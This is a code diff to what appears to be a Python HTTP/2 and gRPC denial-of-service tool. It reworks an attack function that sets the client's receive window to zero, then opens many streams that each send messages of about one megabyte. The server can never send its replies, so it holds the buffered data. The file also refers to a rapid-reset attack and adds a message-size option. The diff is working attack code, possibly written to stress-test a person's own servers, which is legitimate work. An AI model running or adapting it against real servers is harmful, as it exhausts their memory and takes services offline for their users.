@@ -81,13 +81,16 @@ class Conn:
         if self.closed:
             return False
         try:
-            self.sock.send(data)
+            self.sock.settimeout(2)
+            self.sock.sendall(data)
             return True
-        except BlockingIOError:
-            return True
+        except socket.timeout:
+            return True  # the server stopped reading: a stall is no error
         except OSError:
             self.mark_closed()
             return False
+        finally:
+            self.sock.setblocking(False)
 
     def send_frames(self, *frames):
         return self.send(b"".join(frame.serialize() for frame in frames))
@@ -278,27 +281,90 @@ def attack_rapid_reset(args, report, deadline):
 
 # --- Item 4: memory ----------------------------------------------------------
 
+def varint(n):
+    out = b""
+    while True:
+        byte, n = n & 0x7F, n >> 7
+        if n:
+            out += bytes([byte | 0x80])
+        else:
+            return out + bytes([byte])
+
+
 def attack_zero_window(args, report, deadline):
-    """A receive window of 0, then bidi streams each sending 1 MiB messages:
-    the server can never send a reply, so whatever it buffers stays."""
+    """A receive window of 0, then bidi streams each sending one START
+    message of --message-size bytes (within the server's flow control, with
+    h2's state machine): the server can never send its reply, so whatever
+    it keeps for a stream stays until the stream ends."""
+    from h2.config import H2Configuration
+    from h2.connection import H2Connection
+    from h2.events import ConnectionTerminated, StreamReset
+    from h2.settings import SettingCodes
+
+    body = b"\x22" + varint(args.message_size) + b"x" * args.message_size
+    message = grpc_message(body)
     conns = open_conns(args, report, deadline)
-    chunk = grpc_message(b"\x0a" + b"\xff\xff\x3f" + b"x" * (1024 * 1024 - 4))
+    machines = []
     for conn in conns:
-        conn.sock.setblocking(True)
-        conn.sock.settimeout(0.5)
-        conn.handshake(window=0)
-        for _ in range(args.streams):
-            if time.monotonic() >= deadline:
-                break
-            stream, headers = conn.headers_block(ITER)
-            frames = [headers] + [DataFrame(stream, chunk[at:at + 16384])
-                                  for at in range(0, len(chunk), 16384)]
+        machine = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
+        machine.initiate_connection()
+        machine.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
+        machine.pending = {}  # stream id -> bytes still to send
+        machine.opened = 0
+        machines.append((conn, machine))
+        conn.send(machine.data_to_send())
+
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", ITER),
+               (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
+    rounds = 0
+    while time.monotonic() < deadline and rounds < 1_000_000:
+        rounds += 1
+        busy = False
+        for conn, machine in machines:
+            if conn.closed:
+                continue
             try:
-                conn.sock.sendall(b"".join(frame.serialize() for frame in frames))
-            except OSError:
-                break  # flow control or a full socket: the server stopped reading
-        conn.sock.setblocking(False)
-    watch(conns, deadline)
+                data = conn.sock.recv(65536)
+                if not data:
+                    conn.mark_closed()
+                    continue
+                for event in machine.receive_data(data):
+                    if isinstance(event, ConnectionTerminated):
+                        conn.count("goaway", event.error_code)
+                    elif isinstance(event, StreamReset):
+                        conn.count("rst", event.error_code)
+                        machine.pending.pop(event.stream_id, None)
+            except BlockingIOError:
+                pass
+            except Exception:  # the server closed or refused: counted below
+                conn.mark_closed()
+                continue
+            if machine.opened < args.streams and len(machine.pending) < 8:
+                stream = machine.get_next_available_stream_id()
+                machine.send_headers(stream, headers)
+                machine.pending[stream] = message
+                machine.opened += 1
+                report["streams"] += 1
+            for stream, rest in list(machine.pending.items()):
+                try:
+                    window = min(machine.local_flow_control_window(stream),
+                                 machine.max_outbound_frame_size)
+                except Exception:
+                    machine.pending.pop(stream, None)
+                    continue
+                if window > 0:
+                    machine.send_data(stream, rest[:window])
+                    rest = rest[window:]
+                    busy = True
+                if rest:
+                    machine.pending[stream] = rest
+                else:
+                    del machine.pending[stream]
+            out = machine.data_to_send()
+            if out and not conn.send(out):
+                continue
+        if not busy:
+            time.sleep(0.002)
     return conns
 
 
@@ -370,6 +436,7 @@ def main():
     parser.add_argument("--connections", type=int, default=10)
     parser.add_argument("--streams", type=int, default=100)
     parser.add_argument("--announce", type=int, default=4 * 1024 * 1024)
+    parser.add_argument("--message-size", type=int, default=1024 * 1024)
     parser.add_argument("--recv-buffer", type=int, default=0)
     parser.add_argument("--duration", type=float, default=2.0)
     args = parser.parse_args()
